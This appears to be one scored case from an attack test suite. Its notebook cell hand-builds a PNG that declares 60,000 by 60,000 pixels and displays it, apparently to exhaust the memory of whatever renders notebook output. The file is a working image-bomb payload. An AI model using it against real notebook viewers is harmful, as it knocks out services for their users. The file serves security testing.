"""Displays a small PNG file of 60 000 by 60 000 pixels."""

from attacks.kit import Earns

OUTCOME = Earns(10, "image|pixels")
CELLS = (
    """
import struct
import zlib

from IPython.display import Image, display


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


header = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0))
pixels = chunk(b"IDAT", zlib.compress(bytes(7501 * 60_000 // 100)))
display(Image(b"\\x89PNG\\r\\n\\x1a\\n" + header + pixels + chunk(b"IEND", b"")))
""",
)
